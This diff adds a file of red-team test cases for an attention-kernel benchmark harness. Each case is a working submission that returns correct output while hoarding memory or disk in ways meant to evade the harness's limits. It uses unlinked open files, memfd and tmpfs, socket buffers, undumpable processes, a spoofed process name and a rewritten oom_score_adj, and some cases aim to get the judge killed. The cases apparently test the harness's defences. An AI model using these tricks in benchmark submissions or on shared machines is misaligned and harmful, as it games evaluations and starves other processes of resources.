@@ -1,0 +1,507 @@
+# Memory, disk and descriptors held where nobody counts them.
+
+
+# %% c20_a_byte_a_page
+"""Holds a page in a socket's buffer for each byte that it sends of a file.
+
+---
+status: [CRASHED, OUT_OF_MEMORY]
+seen: 'red team of this harness: 1.2 GiB in 2,120 sockets under a limit of 1'
+defence: sandbox
+"""
+
+import os
+import socket
+
+from right_answer import attention
+
+PAGE, PAGES, PAIRS = 4096, 600, 1900
+kept = []
+
+
+def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
+    path = os.path.join(os.environ["ATTNBOARD_CACHE"], "pages")
+    while len(kept) < PAIRS:
+        file = os.open(path, os.O_CREAT | os.O_RDWR | os.O_TRUNC, 0o600)
+        os.write(file, b"x" * (PAGE * PAGES))
+        kept.append(socket.socketpair())
+        for end in kept[-1]:
+            end.setblocking(False)
+            try:
+                for page in range(PAGES):
+                    os.sendfile(end.fileno(), file, page * PAGE, 1)
+            except BlockingIOError:
+                pass
+        os.close(file)
+    return attention(q, k, v, causal, sm_scale)
+
+
+# %% c20_descriptors_on_their_way
+"""Fills its cache with nameless files whose only descriptors are on their way through sockets.
+
+---
+status: [CRASHED]
+seen: 'red team of this harness: 448 MiB of disk, and 1408 of memory, under a limit of 0.1 GiB'
+defence: sandbox
+"""
+
+import os
+import socket
+
+from right_answer import attention
+
+SIZE = 448 << 20
+kept = []
+
+
+def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
+    if not kept:
+        path = os.path.join(os.environ["ATTNBOARD_CACHE"], "kept")
+        file = os.open(path, os.O_CREAT | os.O_RDWR, 0o600)
+        os.unlink(path)
+        kept.extend(socket.socketpair())
+        socket.send_fds(kept[0], [b"x"], [file])
+        os.posix_fallocate(file, 0, SIZE)
+        os.close(file)
+    return attention(q, k, v, causal, sm_scale)
+
+
+# %% c20_hidden_memory
+"""Hoards memory in a file that is mapped by nobody, so that no process seems to hold it.
+
+---
+status: [CRASHED, OUT_OF_MEMORY]
+seen: limits by resident memory of processes; the OOM killer then chooses the judge
+defence: memory_limit
+"""
+
+import os
+import time
+
+from right_answer import attention
+
+kept = []
+
+
+def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
+    if not kept:
+        for number in range(5):  # more than a worker may have, in files below the limit of one
+            kept.append(os.memfd_create(f"kept{number}"))
+            os.posix_fallocate(kept[-1], 0, 1 << 30)
+        time.sleep(1)
+    return attention(q, k, v, causal, sm_scale)
+
+
+# %% c20_hoard_in_log
+"""Has its own log take memory without a byte written, beyond its end, where nobody looks.
+
+---
+status: [CRASHED]
+seen: 'red team of this harness: fallocate filled the memory that judge and rivals live in'
+defence: log_cap
+"""
+
+import ctypes
+import os
+
+from right_answer import attention
+
+KEEP_SIZE = 1
+fallocate = ctypes.CDLL(None, use_errno=True).fallocate64
+
+
+def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
+    start, size = ctypes.c_long(1 << 30), ctypes.c_long(128 << 20)
+    if fallocate(1, KEEP_SIZE, start, size) < 0:
+        raise OSError(ctypes.get_errno(), "the log does not grow")
+    return attention(q, k, v, causal, sm_scale)
+
+
+# %% c20_maps_without_a_first_thread
+"""Lets go of shared memory that it has filled, in a process whose first thread has ended.
+
+---
+status: [CRASHED, OUT_OF_MEMORY]
+seen: 'red team of this harness: 1.5 GiB under a limit of 1, which only /proc/PID/map_files had told'
+defence: memory_limit
+"""
+
+import ctypes
+import mmap
+import os
+import threading
+import time
+
+from right_answer import attention
+
+EXIT, PIECE, POPULATE_WRITE = 60, 1 << 29, 23
+started = []
+
+
+def hold():
+    kept = []
+    for _ in range(10):  # more than a worker may have
+        kept.append(mmap.mmap(-1, PIECE))
+        kept[-1].madvise(POPULATE_WRITE)
+        kept[-1].madvise(mmap.MADV_DONTNEED)
+    time.sleep(60)
+
+
+def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
+    if not started:
+        started.append(os.fork())
+        if not started[0]:
+            threading.Thread(target=hold).start()
+            ctypes.CDLL(None).syscall(EXIT, 0)  # this thread alone
+        time.sleep(8)
+    return attention(q, k, v, causal, sm_scale)
+
+
+# %% c20_named_like_a_line
+"""Holds memory in a process whose first thread has ended, under a name with a line of /proc in it.
+
+---
+status: [CRASHED, OUT_OF_MEMORY]
+seen: 'red team of this harness: 1.5 GiB under a limit of 1, of a process named "x\\rVmRSS: 0"'
+defence: memory_limit
+"""
+
+import ctypes
+import os
+import threading
+import time
+
+from right_answer import attention
+
+PR_SET_NAME, EXIT = 15, 60
+libc = ctypes.CDLL(None)
+started = []
+
+
+def hold():
+    libc.prctl(PR_SET_NAME, b"holds", 0, 0, 0)
+    kept = b"x" * (5 << 30)  # more than a worker may have
+    time.sleep(60)
+    del kept
+
+
+def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
+    if not started:
+        started.append(os.fork())
+        if not started[0]:
+            threading.Thread(target=hold).start()
+            libc.prctl(PR_SET_NAME, b"x\rVmRSS: 0", 0, 0, 0)
+            libc.syscall(EXIT, 0)  # this thread alone
+        time.sleep(5)
+    return attention(q, k, v, causal, sm_scale)
+
+
+# %% c20_not_dumpable
+"""Makes itself undumpable, so that who watches its memory and its files may not look.
+
+---
+status: [CRASHED]
+seen: 'red team of this harness: prctl hid 1.4 GiB from a watch that was not root'
+defence: sandbox
+"""
+
+import ctypes
+
+from right_answer import attention
+
+PR_SET_DUMPABLE = 4
+
+
+def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
+    if ctypes.CDLL(None).prctl(PR_SET_DUMPABLE, 0, 0, 0, 0):
+        raise OSError("it stays dumpable")
+    return attention(q, k, v, causal, sm_scale)
+
+
+# %% c20_outlives_the_judge
+"""Undoes that the kernel ends it first when the machine's memory runs out.
+
+---
+status: [OVER_QUOTA, CRASHED]
+seen: 'red team of this harness: it wrote 0 into its own oom_score_adj'
+defence: memory_limit
+"""
+
+import time
+
+from right_answer import attention
+
+ORDER = "/proc/self/oom_score_adj"
+
+
+def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
+    with open(ORDER, "w", encoding="ascii") as file:
+        file.write("0")
+    with open(ORDER, encoding="ascii") as file:
+        if int(file.read()):
+            raise OSError("it stays as it was")
+    time.sleep(0.5)
+    return attention(q, k, v, causal, sm_scale)
+
+
+# %% c20_scratch_hoard
+"""Hoards memory in files of its scratch folder, which lies in memory too.
+
+---
+status: [CRASHED, OUT_OF_MEMORY, OVER_QUOTA]
+seen: limits by resident memory of processes; tmpfs is nobody's
+defence: memory_limit
+level: 2
+"""
+
+import os
+import tempfile
+
+from right_answer import attention
+
+JUNK = b"x" * (64 << 20)
+kept = []
+
+
+def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
+    while len(kept) < 80:
+        kept.append(tempfile.TemporaryFile())
+        os.write(kept[-1].fileno(), JUNK)
+    return attention(q, k, v, causal, sm_scale)
+
+
+# %% c20_shared_then_let_go
+"""Hoards shared memory of no file and lets go of its pages, which stay and are nobody's any more.
+
+---
+status: [OUT_OF_MEMORY]
+seen: 'red team of this harness: 1.4 GiB under a limit of 1, with a resident size of nothing'
+defence: memory_limit
+"""
+
+import mmap
+import time
+
+from right_answer import attention
+
+SIZE, STEP = 5 << 30, 64 << 20  # more than a worker may have
+kept, junk = mmap.mmap(-1, SIZE), b"x" * STEP
+for start in range(0, SIZE, STEP):
+    kept[start : start + STEP] = junk
+    kept.madvise(mmap.MADV_DONTNEED, start, STEP)
+time.sleep(1)
+
+
+def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
+    return attention(q, k, v, causal, sm_scale)
+
+
+# %% c20_socket_buffers
+"""Keeps memory in the buffers of connections that nobody accepts, which is in no process.
+
+---
+status: [OUT_OF_MEMORY, CRASHED]
+seen: 'red team of this harness: 1.4 GiB in sockets under a limit of 1, without a control group'
+defence: memory_limit
+"""
+
+import socket
+import time
+
+from right_answer import attention
+
+LISTENERS, CONNECTIONS = 6, 4000  # 208 KiB in each
+JUNK = b"x" * 65536
+kept = []
+
+
+def fill(address):
+    with socket.socket(socket.AF_UNIX) as line:
+        line.setblocking(False)
+        line.connect(address)
+        try:
+            while line.send(JUNK):
+                pass
+        except BlockingIOError:
+            pass
+
+
+def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
+    if not kept:
+        for number in range(LISTENERS):
+            kept.append(socket.socket(socket.AF_UNIX))
+            kept[-1].bind(f"\0{number}")
+            kept[-1].listen(CONNECTIONS)
+            for _ in range(CONNECTIONS):
+                fill(f"\0{number}")
+        time.sleep(1)
+    return attention(q, k, v, causal, sm_scale)
+
+
+# %% c20_unlinked_far_down
+"""Fills the disk with a file without a name, which it took from a folder that no path reaches.
+
+---
+status: [OVER_QUOTA]
+seen: 'red team of this harness: 448 MiB under a limit of 100, of a file whose last path was too long'
+defence: quota
+"""
+
+import os
+import time
+
+from right_answer import attention
+
+NAME, LEVELS = "d" * 250, 20  # longer than any path may be
+SIZE = 2 << 30  # more than an entrant may keep
+kept = []
+
+
+def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
+    if not kept:
+        home = os.getcwd()
+        os.chdir(os.environ["ATTNBOARD_CACHE"])
+        for _ in range(LEVELS):
+            os.mkdir(NAME)
+            os.chdir(NAME)
+        kept.append(os.open("kept", os.O_CREAT | os.O_RDWR, 0o600))
+        os.unlink("kept")
+        for _ in range(LEVELS):
+            os.chdir("..")
+            os.rmdir(NAME)
+        os.chdir(home)
+        os.posix_fallocate(kept[0], 0, SIZE)
+        time.sleep(1)
+    return attention(q, k, v, causal, sm_scale)
+
+
+# %% c20_unlinked_hoard
+"""Fills the disk with files of its cache that it keeps open and takes the names of.
+
+---
+status: [OVER_QUOTA]
+seen: 'red team of this harness: 300 MiB under a limit of 100, in files that no folder lists'
+defence: quota
+"""
+
+import os
+import time
+
+from right_answer import attention
+
+SIZE = 2 << 30  # more than an entrant may keep
+kept = []
+
+
+def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
+    if not kept:
+        path = os.path.join(os.environ["ATTNBOARD_CACHE"], "kept")
+        kept.append(os.open(path, os.O_CREAT | os.O_RDWR, 0o600))
+        os.unlink(path)
+        os.posix_fallocate(kept[0], 0, SIZE)
+        time.sleep(1)
+    return attention(q, k, v, causal, sm_scale)
+
+
+# %% c21_deep_hoard
+"""Keeps files in its cache deeper than a path can name: who counts by paths counts nothing, and who
+removes the folder level by level runs out of stack.
+
+---
+status: [OVER_QUOTA]
+seen: found in this harness; a count that passes over what it cannot open
+defence: quota
+beside: [eager_chunked]
+"""
+
+import os
+import tempfile
+import time
+
+from right_answer import attention
+
+JUNK = b"x" * (16 << 20)
+here = os.getcwd()
+os.chdir(os.environ.get("ATTNBOARD_CACHE", tempfile.gettempdir()))
+for _ in range(3000):
+    os.makedirs("d", exist_ok=True)
+    os.chdir("d")
+for number in range(8):
+    with open(f"junk{number}", "wb") as file:
+        file.write(JUNK)
+os.chdir(here)
+
+
+def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
+    time.sleep(0.5)
+    return attention(q, k, v, causal, sm_scale)
+
+
+# %% c21_many_files
+"""Fills the disk with many files, each below the limit of one, and leaves them in its cache.
+
+---
+status: [OVER_QUOTA]
+seen: a limit of one file is no limit of a folder
+defence: quota
+"""
+
+import os
+import tempfile
+
+from right_answer import attention
+
+JUNK = b"x" * (64 << 20)
+CACHE = os.environ.get("ATTNBOARD_CACHE", tempfile.gettempdir())
+
+
+def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
+    for number in range(24):
+        path = os.path.join(CACHE, f"junk{number}")
+        if not os.path.exists(path):
+            with open(path, "wb") as file:
+                file.write(JUNK)
+    return attention(q, k, v, causal, sm_scale)
+
+
+# %% c21_unreadable_program
+"""Has a program that may only be executed hold nameless files, so that none but root may list them.
+
+---
+status: [OVER_QUOTA]
+seen: 'red team of this harness, as an ordinary user: 448 MiB under a limit of 0.1 GiB'
+defence: quota
+"""
+
+import os
+import time
+
+from right_answer import attention
+
+CACHE = os.environ.get("ATTNBOARD_CACHE", "")
+SIZE = 2 << 30  # more than an entrant may keep
+started = []
+
+
+def copy_of_sleep():
+    """Made without the right to be read: who runs it is not dumpable."""
+    path = os.path.join(CACHE, "sleep")
+    file = os.open(path, os.O_CREAT | os.O_WRONLY, 0o111)
+    with open("/bin/sleep", "rb") as sleep:
+        os.write(file, sleep.read())
+    os.close(file)
+    return path
+
+
+def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
+    if not started:
+        program, kept = copy_of_sleep(), os.path.join(CACHE, "kept")
+        file = os.open(kept, os.O_CREAT | os.O_RDWR, 0o600)
+        os.set_inheritable(file, True)
+        started.append(os.posix_spawn(program, [program, "9"], {}))
+        os.unlink(kept)
+        time.sleep(0.2)
+        os.posix_fallocate(file, 0, SIZE)
+        os.close(file)
+        time.sleep(1)
+    return attention(q, k, v, causal, sm_scale)
